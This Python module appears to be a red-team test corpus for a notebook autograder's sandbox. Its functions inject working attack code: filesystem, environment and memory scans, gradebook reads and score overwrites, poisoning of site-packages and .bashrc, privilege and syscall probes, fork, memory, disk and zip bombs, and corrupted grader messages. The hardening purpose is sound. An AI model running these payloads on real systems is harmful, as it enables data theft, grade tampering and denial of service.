"""Attacks on the machine: files, environment, network, processes, memory, disk, time, and the pipe to the grader."""

from __future__ import annotations

import gzip
import io
import zipfile
from pathlib import PurePath

from .corpus import ALL, Aim, Handin, Link, Work, attack

LOOK = """
import os, re, sys, glob
def look(*paths):
    for path in paths:
        try:
            with open(path, "rb") as file: data = file.read(20_000_000)
        except (OSError, ValueError): continue
        for found in set(re.findall(rb"CANARY-[0-9a-f]{8,}", data)): print(path, found.decode(), found.hex())
"""

TRY = """
import ctypes, os, socket, sys
libc = ctypes.CDLL(None, use_errno=True)
def attempt(name, action):
    try: result = action()
    except BaseException as error: print(name, type(error).__name__)
    else: print("BRE" "ACH" if result not in (-1, False, None) else "no", name, result)
"""

LETTERS = """
def letters(tensor):
    return "".join(chr(97 + int(digit, 16)) for digit in bytes(tensor.contiguous().numpy().tobytes()[:12]).hex())
"""


@attack(Aim.LEAK)
def read_everything(work: Work) -> None:
    """Every file that can be read is searched: solutions, gradebook, seed, homes, other submissions."""
    work.last(
        LOOK + "system = ('/proc', '/sys', '/dev', '/usr', '/lib', sys.prefix, sys.base_prefix, '/opt/conda')\n"
        "for folder, folders, files in os.walk('/'):\n"
        "    folders[:] = [name for name in folders if os.path.join(folder, name) not in system and name != '.git']\n"
        "    look(*(os.path.join(folder, name) for name in files))"
    )


@attack(Aim.LEAK)
def environment(work: Work) -> None:
    """The environment of this process, of its parents and of what it starts."""
    work.last(
        LOOK + "import subprocess\nprint(dict(os.environ))\nlook(*glob.glob('/proc/*/environ'),"
        " *glob.glob('/proc/*/cmdline'))\n"
        "print(subprocess.run('env; cat /proc/$PPID/environ', shell=True, capture_output=True))"
    )


@attack(Aim.LEAK)
def shell_commands(work: Work) -> None:
    """Magics and shell commands that print what lies around the notebook."""
    work.last(
        "!env; cat ../*/* ../../*/* ../../../*/*/* ~/.*/* /tmp/*/* 2>/dev/null | head -c 400000 | grep -a CANARY\n"
        "!grep -ras CANARY- .. ../.. ~ --include=*.toml --include=*.py --include=.course-seed"
        " --include=*.ipynb | head -50"
    )


@attack(Aim.LEAK)
def relative_paths(work: Work) -> None:
    """Paths upwards from the working directory, to solutions, seed, gradebook and neighbours."""
    work.last(
        LOOK + "for up in ('..', '../..', '../../..', '../../../..'):\n"
        "    for name in ('solutions/*/*', '.course-seed', 'gradebook.db', 'submitted/*/*/*', 'source/*/*',"
        " '*', '.*/*'):\n"
        "        look(*glob.glob(f'{up}/{name}'))"
    )


@attack(Aim.LEAK)
def roots_of_other_processes(work: Work) -> None:
    """Other processes' roots, working directories and open files in /proc."""
    work.last(
        LOOK + "for pattern in ('root/*', 'cwd/*', 'cwd/../*', 'fd/*', 'root/tmp/*/*', 'map_files/*'):\n"
        "    look(*glob.glob('/proc/*/' + pattern)[:2000])"
    )


@attack(Aim.LEAK)
def inherited_descriptors(work: Work) -> None:
    """Open files that the grader forgot to close."""
    work.last(
        LOOK + "for number in range(256):\n"
        "    try:\n"
        "        target = os.readlink(f'/proc/self/fd/{number}')\n"
        "        print(number, target)\n"
        "        if target.startswith('/') and not target.startswith(('/dev', '/proc', '/tmp', '/usr')):\n"
        "            os.lseek(number, 0, 0); print(re.findall(rb'CANARY-[0-9a-f]{8,}', os.read(number, 10**6)))\n"
        "    except OSError: pass"
    )


@attack(Aim.LEAK)
def own_memory(work: Work) -> None:
    """The process's whole heap, where whoever forked it may have left something."""
    work.last(
        "import re\nfound = set()\n"
        "for line in open('/proc/self/maps'):\n"
        "    ends, rights, *rest = line.split()\n"
        "    begin, end = (int(part, 16) for part in ends.split('-'))\n"
        "    if rights.startswith('rw') and '[heap]' in line and end - begin < 1 << 28:\n"
        "        with open('/proc/self/mem', 'rb', 0) as memory:\n"
        "            memory.seek(begin); found.update(re.findall(rb'CANARY-[0-9a-f]{8,}', memory.read(end - begin)))\n"
        "print(found)"
    )


@attack(Aim.HARM)
def other_processes_memory(work: Work) -> None:
    """Another process's memory is read or written."""
    work.last(
        TRY + "for pid in [int(name) for name in os.listdir('/proc') if name.isdigit() and int(name) != os.getpid()]:\n"
        "    attempt('mem', lambda: open(f'/proc/{pid}/mem', 'r+b', 0))\n"
        "    attempt('ptrace', lambda: libc.ptrace(16, pid, 0, 0))"
    )


@attack(Aim.LEAK)
def gradebook_read(work: Work) -> None:
    """The gradebook is opened and read, other students' marks and all."""
    work.last(
        "import glob, sqlite3\n"
        "for path in glob.glob('../**/gradebook.db', recursive=True) + glob.glob('../../../gradebook.db'):\n"
        "    for table in ('student', 'comment'):\n"
        "        print(sqlite3.connect(path).execute(f'select * from {table}').fetchall())"
    )


@attack(Aim.POINTS, ["ewc"])
def gradebook_written(work: Work) -> None:
    """The gradebook is opened and a mark by hand put in."""
    work.give_up("ewc")
    work.last(
        "import glob, sqlite3\n"
        "for path in glob.glob('../**/gradebook.db', recursive=True) + glob.glob('../../../gradebook.db'):\n"
        "    with sqlite3.connect(path) as book: book.execute('update grade set manual_score = 1000,"
        " auto_score = 1000')"
    )


@attack(Aim.HARM)
def neighbours_overwritten(work: Work) -> None:
    """Other students' submissions, the course's files and the release are overwritten."""
    work.last(
        "import glob\n"
        "for up in ('..', '../..', '../../..'):\n"
        "    for path in glob.glob(up + '/**/*', recursive=True):\n"
        "        if path.endswith(('.ipynb', '.toml', '.canary', '.py')) and '/site-packages/' not in path:\n"
        "            try: open(path, 'w').write('redteam was here')\n"
        "            except OSError: pass"
    )


@attack(Aim.HARM)
def poisoned_library(work: Work) -> None:
    """The course's package, the site packages and the probes are changed for whoever comes next."""
    work.last(
        TRY + "import lifelong, torch, numpy, site\n"
        "targets = [module.__file__ for name, module in list(sys.modules.items())"
        " if name.split('.')[0] in ('lifelong', 'inside', 'probes', 'judged') and getattr(module, '__file__', None)]\n"
        "for target in targets: attempt(target, lambda: open(target, 'r+'))\n"
        "for folder in [*site.getsitepackages(), '/opt/course', '/usr/lib', '/etc', '/']:\n"
        "    attempt(folder, lambda: open(folder + '/redteam.pth', 'w'))"
    )


@attack(Aim.HARM)
def poisoned_home(work: Work) -> None:
    """Start-up files in the home directory, which the next interpreter runs."""
    work.last(
        "import os\n"
        "homes = {os.path.expanduser('~'), os.environ.get('HOME', '/tmp'), os.environ.get('IPYTHONDIR', '/tmp')}\n"
        "for home in homes:\n"
        "    for path in ('profile_default/startup/redteam.py', '.ipython/profile_default/startup/redteam.py',\n"
        "                 '.local/lib/python3.11/site-packages/usercustomize.py', '.bashrc', '.canary'):\n"
        "        try:\n"
        "            os.makedirs(os.path.dirname(os.path.join(home, path)), exist_ok=True)\n"
        "            open(os.path.join(home, path), 'a').write('# redteam')\n"
        "        except OSError: pass"
    )


@attack(Aim.HARM)
def leftovers(work: Work) -> None:
    """Files, sockets and queues are left where the next submission finds them."""
    work.last(
        "import os, glob, socket\n"
        "if glob.glob('/tmp/redteam-left*') + glob.glob('/dev/shm/redteam-left*'): print('BRE' 'ACH')\n"
        "for folder in ('/tmp', '/dev/shm', '/var/tmp', '/dev/mqueue', '/run', '/dev'):\n"
        "    try: open(folder + '/redteam-left', 'w').write('x')\n"
        "    except OSError: pass\n"
        "server = socket.socket(socket.AF_UNIX); server.bind('/tmp/redteam-left.socket')"
    )


@attack(Aim.HARM)
def leftovers_found(work: Work) -> None:
    """What an earlier submission left is there."""
    work.last(
        "import glob, os\n"
        "found = [path for folder in ('/tmp', '/dev/shm', '/var/tmp', '/dev/mqueue', '/run', os.path.expanduser('~'))\n"
        "         for path in glob.glob(folder + '/redteam-left*')]\nprint('BRE' 'ACH' if found else 'clean', found)"
    )


@attack(Aim.LEAK)
def network(work: Work) -> None:
    """Connections to the grader's machine and to the world."""
    work.last(
        TRY + "socket.setdefaulttimeout(0.2)\n"
        "for host in ('127.0.0.1', '::1', '10.0.0.1', '169.254.169.254', '1.1.1.1'):\n"
        "    for port in (22, 53, 80, 443, 8888, 31339):\n"
        "        attempt((host, port), lambda: socket.create_connection((host, port)))\n"
        "attempt('dns', lambda: socket.gethostbyname('example.org'))"
    )


@attack(Aim.LEAK)
def local_sockets(work: Work) -> None:
    """Sockets of the machine by path and by abstract name."""
    work.last(
        TRY + "paths = [line.split()[-1] for line in open('/proc/net/unix') if line.split()[-1][0] in '@/']\n"
        "for path in paths + ['@redteam-canary', '/run/docker.sock', '/run/dbus/system_bus_socket',"
        " '/tmp/.X11-unix/X0']:\n"
        "    name = path.replace('@', chr(0), 1)\n"
        "    attempt(path, lambda: socket.socket(socket.AF_UNIX).connect(name) or True)"
    )


@attack(Aim.HARM)
def odd_socket_families(work: Work) -> None:
    """Families of sockets that know no network namespace: to the hypervisor, to the kernel, raw packets."""
    work.last(
        TRY + "for family, kind in ((40, 1), (16, 3), (17, 3), (2, 3), (10, 3), (38, 5), (15, 3), (31, 3), (29,"
        " 3), (21, 5)):\n"
        "    attempt((family, kind), lambda: socket.socket(family, kind).fileno())"
    )


@attack(Aim.HARM)
def listening(work: Work) -> None:
    """A server that the machine's neighbours can reach."""
    work.last(
        "import socket, subprocess, sys\nkept = []\n"
        "for address in (('0.0.0.0', 31337), ('127.0.0.1', 31338)):\n"
        "    try: kept.append(socket.create_server(address))\n"
        "    except OSError: pass\n"
        "hidden = socket.socket(socket.AF_UNIX); hidden.bind(chr(0) + 'redteam-listens'); hidden.listen()\n"
        "subprocess.Popen([sys.executable, '-c', 'import socket, time; s = socket.create_server((\"\", 31340));"
        " time.sleep(3600)', 'redteam-daemon'])"
    )


@attack(Aim.HARM)
def signals_to_everybody(work: Work) -> None:
    """Every process that can be reached is stopped and killed."""
    work.last(
        "import os, signal\n"
        "if os.fork() == 0:\n"
        "    own = {os.getpid()}\n"
        "    for pid in {os.getppid(), *range(2, 5000)} - own:\n"
        "        try:\n"
        "            name = open(f'/proc/{pid}/cmdline').read()\n"
        "            if 'redteam-canary' in name: os.kill(pid, signal.SIGKILL)\n"
        "        except OSError: pass\n"
        "    os._exit(0)\nos.wait()"
    )


@attack(Aim.HARM)
def daemons(work: Work) -> None:
    """Processes in sessions of their own, which outlive the cell and the notebook."""
    work.last(
        "import os, sys, time\n"
        "for _ in range(4):\n"
        "    if os.fork() == 0:\n"
        "        try: os.setsid()\n"
        "        except OSError: pass\n"
        "        if os.fork() == 0:\n"
        "            os.execv(sys.executable, [sys.executable, '-c', 'import time; time.sleep(3600)',"
        " 'redteam-daemon'])\n"
        "        os._exit(0)"
    )


@attack(Aim.DENIAL)
def spinners(work: Work) -> None:
    """Forked processes that burn processor time long after their cell has ended."""
    work.first("import os\nfor _ in range(12):\n    if os.fork() == 0:\n        while True: pass")


@attack(Aim.DENIAL, hurts=ALL, dangerous=True)
def fork_bomb(work: Work) -> None:
    """Processes that start processes."""
    work.last("import os\nfor _ in range(100_000):\n    try: os.fork()\n    except OSError: pass")


@attack(Aim.DENIAL, hurts=ALL, dangerous=True)
def thread_bomb(work: Work) -> None:
    """As many threads as there can be."""
    work.last(
        "import threading, time\n"
        "for _ in range(100_000):\n    threading.Thread(target=time.sleep, args=(3600,), daemon=True).start()"
    )


@attack(Aim.DENIAL, ["permutation"], dangerous=True)
def memory_bomb(work: Work) -> None:
    """All the memory there is, in one piece and in many."""
    work.write(
        "permutation",
        "def permute(images, permutation):\n    kept = []\n    while True: kept.append(torch.ones(1 << 24))",
    )
    work.last("big = bytearray(1 << 40)")


@attack(Aim.DENIAL, hurts=ALL, dangerous=True)
def shared_memory_bomb(work: Work) -> None:
    """Shared mappings and many processes, which limits of one process do not count."""
    work.last(
        "import mmap, os\nkept = []\n"
        "for _ in range(8):\n"
        "    if os.fork() == 0: break\n"
        "while True:\n"
        "    block = mmap.mmap(-1, 1 << 27)\n    block.write(b'x' * (1 << 27)); kept.append(block)"
    )


@attack(Aim.DENIAL, dangerous=True)
def disk_bomb(work: Work) -> None:
    """Every file system that can be written is filled."""
    work.last(
        "import os\n"
        "for folder in ('/tmp', '/dev/shm', '/var/tmp', '.', os.path.expanduser('~')):\n"
        "    for number in range(1000):\n"
        "        try: open(f'{folder}/redteam-full-{number}', 'wb').write(bytes(1 << 24))\n"
        "        except OSError: break"
    )


@attack(Aim.DENIAL, dangerous=True)
def inode_bomb(work: Work) -> None:
    """More files, folders and links than a file system has room for."""
    work.last(
        "import os\ntry:\n    for number in range(10**6): os.mkdir(f'/tmp/redteam-{number}')\nexcept OSError as error: print(error)"
    )


@attack(Aim.DENIAL, hurts=ALL)
def descriptor_bomb(work: Work) -> None:
    """As many open files, pipes and sockets as there can be."""
    work.last(
        "import os, socket\nkept = []\ntry:\n"
        "    while True: kept += [open('/dev/null'), *os.pipe(), *socket.socketpair()]\n"
        "except OSError as error: print(error)"
    )


@attack(Aim.DENIAL, hurts=ALL, dangerous=True)
def output_bomb(work: Work) -> None:
    """Printing without end."""
    work.first("while True: print('y' * 10_000)")


@attack(Aim.DENIAL)
def raw_output_bomb(work: Work) -> None:
    """Bytes written past Python, to descriptors 1 and 2 and by programs."""
    work.last(
        "import os\nfor _ in range(2000): os.write(1, b'y' * 65536); os.write(2, b'y' * 65536)\n!yes | head -c 10000000"
    )


@attack(Aim.DENIAL)
def thousand_displays(work: Work) -> None:
    """A thousand outputs, each of many kinds."""
    work.last(
        "from IPython.display import display\n"
        "for n in range(1000): display({'text/plain': 'x', 'text/html': '<b>' * 500, 'application/json':"
        " '{}'}, raw=True)"
    )


@attack(Aim.DENIAL)
def enormous_traceback(work: Work) -> None:
    """An exception with a hundred megabytes to say."""
    work.last("raise ValueError('x' * 100_000_000)")


@attack(Aim.DENIAL)
def endless_cell(work: Work) -> None:
    """A cell that never ends."""
    work.first("while True: pass")


@attack(Aim.DENIAL)
def endless_cell_deaf_to_signals(work: Work) -> None:
    """A cell that never ends and cannot be interrupted."""
    work.first(
        "import signal\n"
        "for number in range(1, 65):\n"
        "    try: signal.signal(number, signal.SIG_IGN)\n    except (OSError, ValueError): pass\n"
        "while True:\n    try:\n        while True: pass\n    except BaseException: pass"
    )


@attack(Aim.DENIAL)
def endless_native_code(work: Work) -> None:
    """A loop in C, where Python handles no signals."""
    work.last("import re\nre.match(r'(a+)+$', 'a' * 60 + 'b')")


@attack(Aim.DENIAL, ["permutation"])
def endless_answer(work: Work) -> None:
    """The function that is questioned never returns."""
    work.write("permutation", "import time\ndef permute(images, permutation):\n    while True: time.sleep(1)")


@attack(Aim.DENIAL, ["ewc"])
def exit_of_the_process(work: Work) -> None:
    """The process ends itself in the middle of a cell."""
    work.give_up("ewc")
    work.before("ewc", "import os\nos._exit(0)")


@attack(Aim.DENIAL, ["ewc"])
def exit_in_the_answer(work: Work) -> None:
    """The process ends itself while it is questioned."""
    work.write("ewc", "import os\nclass EWC(QuadraticPenalty):\n    def importance(self, model, batches): os._exit(0)")


@attack(Aim.DENIAL)
def crash(work: Work) -> None:
    """The process is aborted, and reads where there is nothing."""
    work.first("import ctypes; ctypes.string_at(0)")
    work.last("import os; os.abort()")


@attack(Aim.DENIAL, hurts=ALL)
def restart_storm(work: Work) -> None:
    """Every cell kills the process, so that each costs a new one."""
    for exercise in ("permutation", "metrics", "penalty", "ewc", "mas", "si", "rwalk", "scp"):
        work.after(exercise, "import os\nos._exit(0)")


@attack(Aim.DENIAL)
def stopped_process(work: Work) -> None:
    """The process stops itself and its children, and is never heard of again."""
    work.last(
        "import os, signal\nchild = os.fork()\nif child == 0: os.kill(os.getpid(), signal.SIGSTOP)\n"
        "os.kill(0, signal.SIGTSTP)\nos.kill(os.getpid(), signal.SIGSTOP)"
    )


@attack(Aim.HARM)
def kernel_interfaces(work: Work) -> None:
    """System calls with a history: namespaces, mounts, tracing, keys, BPF, io_uring, memory of others."""
    work.last(
        TRY + "calls = {'unshare': (272, 0x10000000), 'mount': (165, 0, 0, 0, 0, 0), 'chroot': (161, b'/tmp'),"
        " 'setns': (308, 0, 0),"
        " 'ptrace': (101, 0, 0, 0, 0), 'keyctl': (250, 0, -3, 1), 'add_key': (248, b'user', b'x', b'y', 1, -3),"
        " 'bpf': (321, 0, 0, 0), 'perf': (298, 0, 0, -1, -1, 0), 'userfaultfd': (323, 1), 'io_uring': (425, 1, 0),"
        " 'memfd': (319, b'x', 0), 'shmget': (29, 0, 4096, 0o1600), 'msgget': (68, 0, 0o1600), 'pivot_root':"
        " (155, b'/', b'/'),"
        " 'open_by_handle': (304, -1, 0, 0), 'process_vm_readv': (310, 1, 0, 0, 0, 0, 0), 'syslog': (103, 3, 0, 0),"
        " 'personality': (135, 0x0040000), 'fanotify': (300, 0, 0), 'kexec': (246, 0, 0, 0, 0), 'settime':"
        " (227, 0, 0)}\n"
        "for name, call in calls.items():\n"
        "    attempt(name, lambda: libc.syscall(*call))"
    )


@attack(Aim.HARM)
def more_rights(work: Work) -> None:
    """Another user, capabilities, higher limits, better priority, a setuid program."""
    work.last(
        TRY + "import resource, subprocess\n"
        "attempt('setuid', lambda: os.getuid() != 0 and (os.setuid(0) or True))\n"
        "attempt('nice', lambda: os.setpriority(os.PRIO_PROCESS, 0, -10) or True)\n"
        "attempt('realtime', lambda: os.sched_setscheduler(0, os.SCHED_FIFO, os.sched_param(1)) or True)\n"
        "for kind in (resource.RLIMIT_AS, resource.RLIMIT_NPROC, resource.RLIMIT_FSIZE, resource.RLIMIT_CPU,"
        " resource.RLIMIT_NOFILE):\n"
        "    attempt(kind, lambda: resource.setrlimit(kind, (resource.RLIM_INFINITY,) * 2) or True)\n"
        "for command in ('sudo -n id', 'su -c id', 'mount -t tmpfs x /tmp', 'unshare -U id', 'newgrp root -c id'):\n"
        "    attempt(command, lambda: subprocess.run(command, shell=True, capture_output=True,"
        " stdin=-3).returncode == 0)"
    )


@attack(Aim.HARM)
def kernel_settings(work: Work) -> None:
    """Settings of the kernel, the scheduler and the out-of-memory killer are written."""
    work.last(
        TRY + "import glob\n"
        "for path in ['/proc/sysrq-trigger', '/proc/sys/kernel/core_pattern', '/proc/sys/vm/drop_caches',"
        " '/proc/sys/kernel/hostname',\n"
        "             '/sys/fs/cgroup/cgroup.procs', *glob.glob('/sys/kernel/*')[:20]]:\n"
        "    attempt(path, lambda: open(path, 'r+'))\n"
        "attempt('map', lambda: os.write(os.open('/proc/self/uid_map', os.O_WRONLY), b'0 0 1'))\n"
        "attempt('oom', lambda: open('/proc/self/oom_score_adj', 'w').write('-1000') and"
        " int(open('/proc/self/oom_score_adj').read()) < 0)"
    )


@attack(Aim.HARM)
def typed_into_the_terminal(work: Work) -> None:
    """Characters are typed into the instructor's terminal."""
    work.last(
        TRY + "import fcntl\n"
        "for path in ('/dev/tty', '/dev/console', '/dev/pts/0', '/dev/tty1', '/dev/ptmx'):\n"
        "    attempt(path, lambda: fcntl.ioctl(open(path, 'r+b', 0), 0x5412, b'x') and True)"
    )


@attack(Aim.HARM)
def links_in_the_folder(work: Work) -> None:
    """Symbolic and hard links from the working directory to what must not be read or changed."""
    work.last(
        LOOK + "for number, target in enumerate(('/etc/shadow', '/root', '/proc/1/root', '../../../.course-seed',"
        " '/opt/course')):\n"
        "    try: os.symlink(target, f'link-{number}'); look(f'link-{number}', f'link-{number}/.course-seed')\n"
        "    except OSError: pass\n"
        "for path in ('/usr/bin/env', '/opt/course/inside/jail.py', '../../../.course-seed'):\n"
        "    try: os.link(path, 'hard'); print('BRE' 'ACH', path)\n"
        "    except OSError: pass"
    )


@attack(Aim.LEAK, ungradable=True)
def linked_submission(work: Work) -> Handin:
    """The file that is handed in is a link to the solutions."""
    return {"hw14.ipynb": Link(PurePath("build/source/hw14/hw14.ipynb"))}


@attack(Aim.LEAK)
def linked_neighbours(work: Work) -> Handin:
    """Links to the seed and the gradebook beside an honest notebook, to be copied along."""
    return {
        "hw14.ipynb": work.bytes(),
        "data.txt": Link(PurePath(".course-seed")),
        "timestamp.txt": Link(PurePath("course.toml")),
        "book.db": Link(PurePath("gradebook.db")),
    }


@attack(Aim.DENIAL, ungradable=True)
def zip_bomb(work: Work) -> bytes:
    """An archive that unpacks to a gigabyte, under a notebook's name."""
    packed = io.BytesIO()
    with zipfile.ZipFile(packed, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as archive:
        for number in range(16):
            archive.writestr(f"../../../../tmp/redteam-zip-{number}", bytes(1 << 26))
    return packed.getvalue()


@attack(Aim.DENIAL, ungradable=True)
def gzip_bomb(work: Work) -> bytes:
    """A compressed notebook of a quarter of a gigabyte."""
    return gzip.compress(b'{"cells": [' + b" " * (1 << 28), 9)


@attack(Aim.DENIAL, ungradable=True)
def million_lists(work: Work) -> bytes:
    """Twenty megabytes of notebook that take gigabytes in memory."""
    return b'{"nbformat": 4, "nbformat_minor": 5, "metadata": {}, "cells": [' + b"{}," * 6_000_000 + b"{}]}"


@attack(Aim.DENIAL, hurts=ALL)
def garbage_on_the_pipe(work: Work) -> None:
    """Bytes that are no frames, lengths that are lies, JSON that is too deep, arrays that are not there."""
    work.last(
        "import gc, struct\n"
        "for stream in [each for each in gc.get_objects() if type(each).__name__ == 'Stream']:\n"
        '    for text in (b\'[\' * 100_000, b\'["reply", {"value": {"$array": "9"}}]\', b\'\\xff\' * 99,'
        " b'[1e999, NaN]'):\n"
        "        stream.sock.sendall(struct.pack('>II', len(text) + 4, len(text)) + text)\n"
        "    stream.sock.sendall(struct.pack('>II', 50, 4_000_000_000) + b'x' * 46)"
    )


@attack(Aim.DENIAL, hurts=ALL)
def replies_that_swell(work: Work) -> None:
    """Replies of three megabytes each that become a hundred in the grader's memory, for every question asked."""
    work.last(
        "import sys, struct\nwire = sys.modules.get('inside.wire')\n"
        "if wire:\n"
        "    real = wire.pack\n"
        '    body = b\'["reply", {"outcome": "ok", "value": {"a": [\' + b\'[],\' * 990_000 + b\'[]]}}]\'\n'
        "    frame = struct.pack('>II', len(body) + 4, len(body)) + body\n"
        "    wire.pack = lambda kind, tree: frame if kind == 'reply' else real(kind, tree)"
    )


@attack(Aim.DENIAL, hurts=ALL)
def errors_that_swell(work: Work) -> None:
    """Replies whose errors have a hundred thousand fields, and fields that are no text."""
    work.last(
        "import sys\nwire = sys.modules.get('inside.wire')\n"
        "if wire:\n"
        "    real = wire.pack\n"
        "    error = {str(n): 'x' for n in range(100_000)} | {'type': [[['x'] * 100_000]], 'message': {'a': 1}}\n"
        "    wire.pack = lambda kind, tree: real(kind, {'outcome': 'error', 'error': error} if kind =="
        " 'reply' else tree)"
    )


@attack(Aim.DENIAL)
def descriptors_to_the_grader(work: Work) -> None:
    """Open files are passed to the grader through the pipe, until it has no room for more."""
    work.last(
        "import gc, socket, os\n"
        "for stream in [each for each in gc.get_objects() if type(each).__name__ == 'Stream']:\n"
        "    null = os.open('/dev/null', 0)\n"
        "    frame = b'\\x00\\x00\\x00\\x12\\x00\\x00\\x00\\x0e[\"output\", {}]'\n"
        "    for _ in range(50): socket.send_fds(stream.sock, [frame], [null] * 20)"
    )


@attack(Aim.LEAK, ["permutation"])
def inputs_in_an_error_message(work: Work) -> None:
    """The hidden inputs come out letter by letter in the message of an exception."""
    work.write(
        "permutation",
        LETTERS
        + "def permute(images, permutation):\n    raise ValueError(letters(images) + ' ' + letters(permutation))",
    )


@attack(Aim.LEAK, ["permutation"])
def inputs_in_a_type_name(work: Work) -> None:
    """… in the name of an exception's type."""
    work.write(
        "permutation",
        LETTERS + "def permute(images, permutation):\n    raise type(letters(images), (Exception,), {})()",
    )


@attack(Aim.LEAK, ["permutation"])
def inputs_in_an_object(work: Work) -> None:
    """… in the name of the type of what is returned, and in keys."""
    work.write(
        "permutation",
        LETTERS + "def permute(images, permutation):\n    kind = type(letters(images), (), {})\n    return kind()",
    )


@attack(Aim.LEAK, ["ewc"])
def inputs_in_keys(work: Work) -> None:
    """… in the keys of a dict that is returned."""
    work.write(
        "ewc",
        LETTERS + "class EWC(QuadraticPenalty):\n"
        "    def importance(self, model, batches):\n"
        "        images, labels = next(iter(batches))\n"
        "        right = {name: torch.zeros_like(p) for name, p in model.named_parameters()}\n"
        "        return {**right, letters(images): torch.zeros(1)}",
    )


@attack(Aim.LEAK, ["permutation"])
def inputs_in_a_line_of_code(work: Work) -> None:
    """… in the line of the traceback, which is read from a cache that can be written."""
    work.write(
        "permutation",
        LETTERS + "import linecache\n"
        "def permute(images, permutation):\n"
        "    line = letters(images)\n"
        "    for name in list(linecache.cache):\n"
        "        linecache.cache[name] = (99, None, [line + chr(10)] * 99, name)\n"
        "    linecache.checkcache = lambda *a: None\n"
        "    1 / 0",
    )


@attack(Aim.LEAK, ["permutation"])
def inputs_by_way_of_a_file(work: Work) -> None:
    """… through a file and a thread that prints it later, in another cell's output."""
    work.write(
        "permutation",
        LETTERS + "import threading, time, os\n"
        "def later():\n"
        "    while not os.path.exists('/tmp/redteam-inputs'): time.sleep(0.02)\n"
        "    while True: print(open('/tmp/redteam-inputs').read()); time.sleep(0.05)\n"
        "threading.Thread(target=later, daemon=True).start()\n"
        "def permute(images, permutation):\n"
        "    open('/tmp/redteam-inputs', 'a').write(letters(images))\n"
        "    raise ValueError(open('/tmp/redteam-inputs').read())",
    )


@attack(Aim.LEAK, ["permutation"])
def inputs_of_an_earlier_question(work: Work) -> None:
    """… through the process's parent, whose memory the question's fork can write."""
    work.write(
        "permutation",
        LETTERS + "import mmap\nkept = mmap.mmap(-1, 4096)\n"
        "def permute(images, permutation):\n"
        "    before = kept[:24]\n"
        "    kept[:24] = letters(images).encode()\n"
        "    raise ValueError((before if before.strip(bytes(1)) else kept[:24]).decode())",
    )
